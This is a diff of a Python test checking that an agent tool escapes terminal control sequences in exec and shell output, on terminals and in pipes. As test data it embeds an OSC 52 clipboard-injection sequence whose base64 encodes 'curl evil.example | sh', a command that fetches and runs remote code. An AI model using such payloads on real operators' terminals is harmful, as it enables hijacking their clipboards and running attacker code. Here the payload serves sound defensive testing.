@@ -440,13 +440,17 @@ def test_shell_and_exec_take_the_users_input_and_exit_code(bottle):
 
 def test_exec_output_reaches_a_terminal_without_its_control_sequences(bottle):
     """What the agent prints is text for the operator's terminal, not commands to it: OSC 52
-    would set the operator's clipboard. Escaped on a terminal; exact into a pipe or a file."""
+    would set the operator's clipboard. Escaped on a terminal, and into a pipe or a file too
+    (`| head` and `cat` show it on one); so is a shell fed from a pipe."""
     import pty
 
-    clipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"  # "curl evil.example | sh"
+    escaped_clipboard = "before\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07after"  # "curl evil.example | sh"
     command = "printf 'before\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\007after\\n'; printf '\\033[2J' >&2"
     piped = bottle.inv("exec", command)
-    assert clipboard in piped.stdout and "\x1b[2J" in piped.stderr, (piped.stdout, piped.stderr)
+    assert "\x1b" not in piped.stdout + piped.stderr and "\x07" not in piped.stdout, (piped.stdout, piped.stderr)
+    assert escaped_clipboard in piped.stdout and "\\x1b[2J" in piped.stderr, (piped.stdout, piped.stderr)
+    fed = bottle.inv("shell", input="printf 'zero\\342\\200\\213width\\033[2J\\n'\n")
+    assert "zero\\u200bwidth\\x1b[2J" in fed.stdout and "\x1b" not in fed.stdout, fed.stdout
     main, terminal = pty.openpty()
     env = {**os.environ, "INVOKE_BOTTLE_MANIFEST": str(bottle.manifest), **bottle.env}
     proc = subprocess.Popen([INV, "use", *bottle.selector, "exec", command], cwd=REPO, env=env,
